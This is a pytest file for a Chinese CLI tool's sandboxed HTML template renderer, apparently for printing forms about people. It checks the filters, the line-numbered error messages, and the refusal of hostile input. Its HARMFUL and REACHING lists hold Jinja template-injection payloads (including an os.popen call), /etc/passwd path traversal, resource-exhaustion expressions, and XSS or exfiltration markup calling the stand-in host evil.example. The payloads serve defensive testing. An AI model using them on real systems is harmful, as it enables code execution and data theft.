"""A template gets data and nothing else; what is missing is an error with file and line."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from jiuye_cli.core.fields.value import UNKNOWN
from jiuye_cli.errors import RuleFileError
from jiuye_cli.render.paper.template import render, render_all
from jiuye_cli.render.paper.template_reach import first_reach, without_orders

SHIPPED = Path(__file__).parents[2] / "templates"
PERSON = {
    "name": "<b>李广军</b>\x1b[2J",
    "phone": "19900001234",
    "on": date(2026, 11, 21),
    "money": Decimal("18000.00"),
    "items": ["甲", "乙"],
    "age": UNKNOWN,
    "willing": True,
}


def from_template(tmp_path: Path, text: str, data: Mapping[str, object] = PERSON) -> str:
    (tmp_path / "页.html").write_text(text, encoding="utf-8")
    return render("页.html", data, [tmp_path, SHIPPED])


def test_shipped_templates_are_filled_in_without_a_child(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jiuye_cli.render.paper.template.run_module", None)
    (tmp_path / "页.html").write_text("{{ name }}", encoding="utf-8")
    assert render("页.html", {"name": "张三"}, [tmp_path / "没有", tmp_path]) == "张三"


def fault(tmp_path: Path, text: str, data: Mapping[str, object] = PERSON) -> str:
    with pytest.raises(RuleFileError) as caught:
        from_template(tmp_path, text, data)
    assert caught.value.exit_code == 4
    return str(caught.value).replace(str(tmp_path) + "/", "")


@pytest.mark.parametrize(
    ("text", "page"),
    [
        ("{{ name }}", "&lt;b&gt;李广军&lt;/b&gt;[2J"),
        (
            "{{ on|日期 }} {{ on|月日 }} {{ on|年月 }} {{ on|星期 }}",
            "2026年11月21日 11月21日 2026年11月 星期六",
        ),
        ("{{ money|元 }} {{ 1234.5|千分 }}", "18,000元 1,234.50"),
        ("{{ phone|遮电话 }}", "199****1234"),
        ("{% for x in items %}{{ loop.index|序号 }}、{{ x }}；{% endfor %}", "一、甲；二、乙；"),
        ("{{ age|或('未问到') }} {{ phone|或('未问到') }}", "未问到 19900001234"),
        ("{% if age %}{{ age }}{% else %}没问{% endif %}", "没问"),
        ("{{ willing }}", "是"),
        ("{{ 3 * 4 + 2 ** 3 }}", "20"),
        ("{{ items|join('、') }}", "甲、乙"),
    ],
)
def test_what_a_template_can_write(tmp_path: Path, text: str, page: str) -> None:
    assert from_template(tmp_path, text) == page


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("一\n{{ nmae }}", "页.html:2: 没有“nmae”这一项，是不是写错了字？"),
        ("一\n二\n{{ nmae|日期 }}", "页.html:3: 没有“nmae”这一项，是不是写错了字？"),
        ("{{ nmae|或('x') }}", "页.html:1: 没有“nmae”这一项，是不是写错了字？"),
        ("{% if nmae %}{% endif %}", "页.html:1: 没有“nmae”这一项，是不是写错了字？"),
        ("{{ age }}", '页.html:1: “age”还不知道，纸上不能空着；可以写 {{ …|或("未问到") }}'),
        ("{{ age ~ '岁' }}", '页.html:1: “age”还不知道，纸上不能空着；可以写 {{ …|或("未问到") }}'),
        ("{{ age|元 }}", '页.html:1: “age”还不知道，纸上不能空着；可以写 {{ …|或("未问到") }}'),
        (
            "{{ items }}",
            "页.html:1: 这里不是一个字或一个数，写不到纸上；一张表要用 {% for %} 一行一行写",
        ),
        ("\n{% for x in items %}", "页.html:2: 到末尾还缺一个 {% endfor %}"),
        ("{{ name|大写 }}", "页.html:1: 没有“大写”这种写法（竖线 | 后面）"),
        ("{% 循环 %}", "页.html:1: 不认识 {% 循环 %}；常用的只有 for、if、else、include"),
        ("{{ name ｝}", "页.html:1: 不认识符号“｝”，是不是全角符号？"),
        (
            "{% include '没有.html' %}",
            "页.html:1: 找不到模板“没有.html”，请看看 templates 文件夹里的文件名",
        ),
    ],
)
def test_what_is_wrong_is_said_with_file_and_line(tmp_path: Path, text: str, sentence: str) -> None:
    assert fault(tmp_path, text) == sentence


HARMFUL = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ name.__class__ }}",
    "{{ name.format }}",
    "{{ '{0.__class__}'.format(name) }}",
    "{{ self._TemplateReference__context }}{{ self.__init__.__globals__ }}",
    "{{ render.__globals__ }}",
    "{{ range.__self__ }}",
    "{{ name|attr('__class__') }}",
    "{{ items.append('丙') }}",
    "{{ name|safe }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ 'a' * 10**9 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ [0] * 10**9 }}",
    "{{ name|center(10**9) }}",
    "{{ '%1000000000s'|format(name) }}",
    "{% include '../../../../../../etc/passwd' %}",
    "{% include '/etc/passwd' %}",
    "{% macro 甲() %}{{ 甲() }}{% endmacro %}{{ 甲() }}",
    "{% include '页.html' %}",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_template_can_do_no_harm(tmp_path: Path, text: str) -> None:
    said = fault(tmp_path, text)
    assert said.startswith("页.html")
    assert "Traceback" not in said


def test_a_template_cannot_change_its_data(tmp_path: Path) -> None:
    assert fault(tmp_path, "{{ person.update({'低保': '是'}) }}", {"person": {"低保": "否"}}) == (
        "页.html:1: 模板里只能写出数据，不能调用别的东西"
    )


def test_a_template_that_eats_memory_is_stopped(tmp_path: Path) -> None:
    text = "{% set n = namespace(t='x'|list) %}{% for i in range(60) %}{% set n.t = n.t + n.t %}{% endfor %}"
    assert fault(tmp_path, text) == "页.html:1: 这份模板占的内存太多"


def test_a_template_that_never_ends_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jiuye_cli.render.paper.template.SECONDS", 1.0)
    loops = "{% for a in range(9999) %}" * 3 + "{% endfor %}" * 3
    assert fault(tmp_path, loops) == (
        "页.html: 这份模板太久还没写完，像是停不下来的循环；请改回来，或先把它移出模板文件夹"
    )


def test_the_users_template_comes_before_the_shipped_one(tmp_path: Path) -> None:
    own, shipped = tmp_path / "own", tmp_path / "shipped"
    for folder, text in ((own, "我的{{ name }}"), (shipped, "原来的{{ name }}")):
        folder.mkdir()
        (folder / "页.html").write_text(text, encoding="utf-8")
    (shipped / "别的.html").write_text("别的{{ name }}", encoding="utf-8")
    assert render("页.html", {"name": "张三"}, [own, shipped]) == "我的张三"
    assert render("别的.html", {"name": "张三"}, [own, shipped]) == "别的张三"


def test_many_pages_cost_one_child(tmp_path: Path) -> None:
    (tmp_path / "页.html").write_text("{{ n }}", encoding="utf-8")
    assert render_all("页.html", [{"n": n} for n in range(50)], [tmp_path, SHIPPED]) == [
        str(n) for n in range(50)
    ]


def test_a_template_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(RuleFileError, match=r"^没有.html: 找不到模板“没有.html”"):
        render("没有.html", {}, [tmp_path, SHIPPED])


REACHING = [
    "<script>1</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src='http://evil.example/?{{ phone }}'>",
    "<img src=//evil.example/{{ phone }}>",
    "<img src='file:///etc/passwd'>",
    "<img src='公章.png'>",
    "<img srcset='https://evil.example 2x'>",
    "<img src=x onerror='alert(1)'>",
    "<svg><image href='http://evil.example/'/></svg>",
    "<svg><image xlink:href='ht&#116;p://evil.example/'/></svg>",
    "<svg onload=alert(1)></svg>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<link rel=stylesheet href='http://evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<style>p { background: url(http://evil.example/) }</style>",
    "<style>p { background: u\\72l(//evil.example/) }</style>",
    "<style>p { background: image-set('//evil.example/' 1x) }</style>",
    "<p style='background: url(file:///etc/passwd)'>x</p>",
    "<iframe srcdoc='x'></iframe>",
    "<form action='http://evil.example/'></form>",
    "<base href='http://evil.example/'>",
    "<object data='http://evil.example/'></object>",
]


@pytest.mark.parametrize("text", REACHING)
def test_a_page_that_runs_or_fetches_is_refused_with_its_line(tmp_path: Path, text: str) -> None:
    said = fault(tmp_path, f"一\n{text}")
    assert said.startswith(("页.html:2: <", "页.html:2: 样式会去取外面的东西"))
    assert said.endswith("模板里不能有；图片要写成 data:image")


@pytest.mark.parametrize(
    "text",
    [
        "<scr{{ '' }}ipt>1</script>",
        "<img {{ 's' }}rc='http://evil.example/'>",
        "<img src='{{ 'http:' ~ '//evil.example/' }}'>",
    ],
)
def test_what_a_template_pieces_together_is_seen_in_the_page(tmp_path: Path, text: str) -> None:
    assert "模板里不能有" in fault(tmp_path, text)


def test_pictures_inside_the_page_links_and_peoples_own_words_pass(tmp_path: Path) -> None:
    page = (
        "<style>p { background: url(data:image/png;base64,AA) } b::after { content: '：' }</style>"
        "<img src='data:image/png;base64,AA'><a href='https://www.gov.cn/'>看</a><a href='#甲'>跳</a>"
        "<p>{{ words }}</p>"
    )
    data = {"words": "<script src=http://x> url(http://y) onload=1"}
    assert from_template(tmp_path, page, data).endswith(
        "&lt;script src=http://x&gt; url(http://y) onload=1</p>"
    )


def test_shipped_templates_neither_run_nor_fetch_anything() -> None:
    for path in SHIPPED.rglob("*.html"):
        assert first_reach(without_orders(path.read_text(encoding="utf-8"))) is None, path


def test_a_template_that_is_a_link_to_somewhere_else_is_refused(tmp_path: Path) -> None:
    (tmp_path / "别处.txt").write_text("家里的事", encoding="utf-8")
    own = tmp_path / "own"
    own.mkdir()
    (own / "页.html").write_text("{% include '链接.txt' %}", encoding="utf-8")
    (own / "链接.txt").symlink_to(tmp_path / "别处.txt")
    with pytest.raises(RuleFileError, match="这是个链接，请把文件本身放进来"):
        render("页.html", {}, [own, SHIPPED])
